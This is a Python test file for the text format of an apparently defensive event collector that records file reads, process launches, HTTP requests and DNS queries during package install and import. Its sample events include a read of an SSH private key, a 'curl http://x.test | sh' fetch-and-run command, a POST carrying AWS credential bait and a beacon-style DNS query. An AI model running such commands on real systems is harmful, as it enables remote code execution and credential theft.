"""The text form of events: lossless, one line, harmless, and its errors teach."""

from __future__ import annotations

import string
from typing import get_args

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.errors import EventTextError
from collector.events import (
    AnyEvent,
    DnsQuery,
    FileRead,
    FileWrite,
    HttpRequest,
    ProcessExec,
    ProcessExit,
    Source,
)
from collector.text import kind_of, parse, render

NASTY = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    st.text("\"'\\[]{}#= \t\n\r\x1b\x7f\u202e\u2066\u2028\ufeff\x00abc", max_size=20),
)
BY_TYPE = {
    str: NASTY,
    int: st.integers(-(10**15), 10**15),
    bool: st.booleans(),
    tuple[str, ...]: st.lists(NASTY, max_size=4).map(tuple),
}


def events() -> st.SearchStrategy[AnyEvent]:
    def one(cls: type[AnyEvent]) -> st.SearchStrategy[AnyEvent]:
        fields = [f for f in msgspec.structs.fields(cls) if f.name not in {"ts", "source", "pid", "phase"}]
        return st.builds(
            cls,
            phase=NASTY,
            pid=st.integers(0, 2**22),
            **{f.name: BY_TYPE[f.type] if f.required else st.just(f.default) | BY_TYPE[f.type] for f in fields},
        )

    return st.one_of([one(cls) for cls in get_args(AnyEvent)])


@given(events())
def test_every_event_survives_the_round_trip(event: AnyEvent) -> None:
    assert parse(render(event)) == event


@given(events())
def test_a_line_is_one_line_of_printable_ascii(event: AnyEvent) -> None:
    printable = set(string.ascii_letters + string.digits + string.punctuation + " ")
    assert set(render(event)) <= printable


@given(events(), st.integers(1, 10**6))
def test_source_is_a_comment_that_parsing_ignores(event: AnyEvent, line: int) -> None:
    sourced = msgspec.structs.replace(event, source=Source("traces/import.strace.zst", line))
    text = render(sourced, source=True)
    assert text.endswith(f"  # traces/import.strace.zst:{line}")
    assert parse(text) == event


@given(st.text(max_size=80) | st.text('importarge 0-file.path="[]{},=#', max_size=80))
def test_any_text_is_an_event_or_our_error(line: str) -> None:
    try:
        event = parse(line)
    except EventTextError:
        return
    assert parse(render(event)) == event


@pytest.mark.parametrize(
    ("line", "event"),
    [
        (
            "import target 412 file.read path=/home/dev/.ssh/id_rsa errno=ENOENT",
            FileRead(phase="import", pid=412, path="/home/dev/.ssh/id_rsa", errno="ENOENT"),
        ),
        (
            'install target 31 process.exec image=/bin/sh argv=["sh","-c","curl http://x.test | sh"] parent=30',
            ProcessExec(
                phase="install", pid=31, image="/bin/sh", argv=("sh", "-c", "curl http://x.test | sh"), parent=30
            ),
        ),
        (
            'import target - http.request method=POST host=c.test target=/c port=443 tls=true bait=["aws/plain"]',
            HttpRequest(
                phase="import",
                method="POST",
                host="c.test",
                target="/c",
                port=443,
                tls=True,
                bait=("aws/plain",),
            ),
        ),
        (
            "startup dependency:six 9 dns.query name=abc.beacon.test qtype=AAAA",
            DnsQuery(phase="startup", actor="dependency:six", pid=9, name="abc.beacon.test", qtype="AAAA"),
        ),
        ("import target 3 process.exit signal=SIGKILL", ProcessExit(phase="import", pid=3, signal="SIGKILL")),
        (
            'import target 3 file.write path="a b" created=true',
            FileWrite(phase="import", pid=3, path="a b", created=True),
        ),
    ],
)
def test_known_lines(line: str, event: AnyEvent) -> None:
    assert parse(line) == event
    assert parse(render(event)) == event


def test_required_fields_are_written_even_when_empty() -> None:
    assert render(FileRead(phase="import", pid=1, path="")) == 'import target 1 file.read path=""'


def test_a_person_may_write_more_words_bare_than_render_does() -> None:
    event = parse("  import target - http.request method=GET host=x.test target=/a?b=c&d=~e   # why\n")
    assert isinstance(event, HttpRequest)
    assert event.target == "/a?b=c&d=~e"
    assert 'target="/a?b=c&d=~e"' in render(event)


def test_kind_of() -> None:
    assert kind_of(FileRead(phase="import", path="/x")) == "file.read"


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("", "expected a phase at column 1"),
        ("import target 4", "expected a kind at column 16"),
        ("import target four file.read path=/x", "the pid must be a number or '-', not 'four'"),
        ("import target 4 file.reed path=/x", "there is no event kind 'file.reed'; did you mean file.read?"),
        ("import target 4 xyz path=/x", "there are: process.start, process.exec"),
        ("import target 4 file.read pth=/x", "file.read has no field 'pth'; did you mean path?"),
        ("import target 4 file.read ts=1", "file.read has no field 'ts'"),
        ("import target 4 file.read", "file.read needs path=..."),
        ("import target 4 network.connect port=1", "network.connect needs ip=..."),
        ("import target 4 network.connect ip=192.0.2.1 port=x", "port must be a whole number, not 'x'"),
        ("import target 4 file.write path=/x created=yes", "created must be true or false, not 'yes'"),
        ("import target 4 process.exec image=/x argv=sh", "argv must be a JSON array of strings"),
        ("import target 4 process.exec image=/x argv=[1]", "argv must be a JSON array of strings"),
        ("import target 4 file.read path=[]", "path must be a word or a JSON string"),
        ('import target 4 file.read path="x', "not JSON at column 32"),
        ("import target 4 file.read path=/x path=/y", "path is given twice"),
        ("import target 4 file.read path=/x /y", "expected key=value or '# comment'"),
        ('import target 4 file.read path="x"y', "expected key=value or '# comment'"),
        ("import target 4 file.read path=" + "[" * 100_000, "not JSON at column 32"),
    ],
)
def test_errors_teach(line: str, message: str) -> None:
    with pytest.raises(EventTextError) as caught:
        parse(line)
    assert message in str(caught.value)
    assert len(str(caught.value)) < 500
